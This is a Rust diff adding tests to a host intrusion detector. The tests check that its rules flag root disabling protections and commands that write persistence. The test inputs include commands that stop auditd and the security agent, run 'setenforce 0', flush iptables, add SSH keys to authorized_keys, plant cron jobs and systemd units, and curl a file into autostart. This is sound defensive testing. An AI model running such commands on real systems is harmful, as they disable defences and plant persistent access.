@@ -2,7 +2,8 @@
 
 use crate::stage::with;
 use baluardo_detect::sigma::builtin::{self, FILES};
-use baluardo_detect::sigma::{Detector, Event, Places, RuleInfo, Source, logs};
+use baluardo_detect::sigma::{Detector, Event, Places, RuleInfo, Source, logs, note_hour};
+use baluardo_model::intrusion::IntrusionPolicy;
 use serde_json::json;
 use std::collections::BTreeSet;
 use std::sync::Arc;
@@ -31,6 +32,7 @@ impl Device {
         entry["__REALTIME_TIMESTAMP"] = (NOON + seconds * 1_000_000).to_string().into();
         let mut event = logs::of_json(&entry, &Source::default());
         self.places.note(&mut event);
+        note_hour(&IntrusionPolicy::default(), &mut event);
         self.found(&event)
     }
 
@@ -41,9 +43,13 @@ impl Device {
     }
 
     fn start(&mut self, parent: &str, image: &str, command: &str) -> Vec<String> {
+        self.start_by((parent, ""), image, command)
+    }
+
+    fn start_by(&mut self, (parent, by): (&str, &str), image: &str, command: &str) -> Vec<String> {
         let source =
             Source { product: Some("linux".into()), categories: vec!["process_creation".into()], services: vec![] };
-        let fields = [("ParentImage", parent), ("Image", image), ("CommandLine", command)];
+        let fields = [("ParentImage", parent), ("ParentCommandLine", by), ("Image", image), ("CommandLine", command)];
         self.found(&with(source, &fields))
     }
 }
@@ -116,6 +122,66 @@ fn a_log_in_at_night_or_from_a_new_place_or_of_root_is_told() {
     assert_eq!(device.line("sshd", &accepted("root", "192.0.2.7"), 24 * 3600), ["a09"]);
     let by_key = accepted("backup", "192.0.2.8").replace("password", "publickey");
     assert!(device.line("sshd", &by_key, 14 * 3600).is_empty());
+    let screen = "pam_unix(gdm-password:session): session opened for user anna(uid=1000) by (uid=0)";
+    assert_eq!(device.line("gdm-password]", screen, 15 * 3600), ["b07"]);
+    assert!(device.line("gdm-password]", screen, 24 * 3600).is_empty());
+}
+
+#[test]
+fn protection_that_root_turns_off_is_told_and_what_packages_do_is_not() {
+    let mut device = Device::new();
+    let root = ("/usr/bin/bash", "bash");
+    for (image, command) in [
+        ("/usr/bin/systemctl", "systemctl stop baluardo-agent"),
+        ("/usr/bin/systemctl", "systemctl --quiet disable --now auditd.service"),
+        ("/usr/sbin/setenforce", "setenforce 0"),
+        ("/usr/bin/pkill", "pkill -9 baluardo-agent"),
+        ("/usr/sbin/iptables", "/usr/sbin/iptables -F"),
+    ] {
+        assert_eq!(device.start_by(root, image, command), ["c04"], "{command}");
+    }
+    for (by, image, command) in [
+        (("/usr/bin/sudo", "sudo systemctl stop auditd"), "/usr/bin/systemctl", "systemctl stop auditd"),
+        (
+            ("/usr/bin/perl", "/usr/bin/perl -w /usr/bin/deb-systemd-invoke stop clamav-daemon"),
+            "/usr/bin/systemctl",
+            "systemctl --quiet --system stop clamav-daemon.service",
+        ),
+        (root, "/usr/bin/systemctl", "systemctl restart rsyslog.service"),
+        (root, "/usr/bin/systemctl", "systemctl kill -s HUP rsyslog.service"),
+        (root, "/usr/sbin/iptables", "iptables -F ufw-logging-deny"),
+        (root, "/usr/bin/pkill", "pkill firefox"),
+    ] {
+        assert!(device.start_by(by, image, command).is_empty(), "{command}");
+    }
+}
+
+#[test]
+fn commands_that_write_where_programs_start_are_told_and_those_that_read_are_not() {
+    let mut device = Device::new();
+    let shell = ("/usr/bin/bash", "bash");
+    for (image, command) in [
+        ("/usr/bin/tee", "tee -a /root/.ssh/authorized_keys"),
+        ("/usr/bin/bash", "bash -c echo ssh-ed25519 AAAA x >> /home/anna/.ssh/authorized_keys"),
+        ("/usr/bin/cp", "cp /tmp/x.service /etc/systemd/system/x.service"),
+        ("/usr/bin/dash", "sh -c echo '* * * * * root /tmp/x' > /etc/cron.d/x"),
+        ("/usr/bin/sed", "sed -i $a/tmp/x& /etc/rc.local"),
+        ("/usr/bin/curl", "curl -s http://203.0.113.9/x -o /home/anna/.config/autostart/x.desktop"),
+    ] {
+        assert_eq!(device.start_by(shell, image, command), ["d05"], "{command}");
+    }
+    for (by, image, command) in [
+        (shell, "/usr/bin/cat", "cat /home/anna/.ssh/authorized_keys"),
+        (shell, "/usr/bin/cp", "cp /etc/crontab /home/anna/crontab.old"),
+        (shell, "/usr/bin/bash", "bash -c ls /etc/cron.d > /tmp/list"),
+        (("/usr/bin/sudo", "sudo cp a /etc/cron.d/a"), "/usr/bin/cp", "cp a /etc/cron.d/a"),
+        (("/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/cron.postinst configure"), "/usr/bin/cp", "cp a /etc/cron.d/a"),
+    ] {
+        assert!(device.start_by(by, image, command).is_empty(), "{command}");
+    }
+    let systemctl = |command: &str| Device::new().start_by(shell, "/usr/bin/systemctl", command);
+    assert_eq!(systemctl("systemctl enable --now /tmp/x.service"), ["d06"]);
+    assert!(systemctl("systemctl enable --now cups.service").is_empty());
 }
 
 #[test]
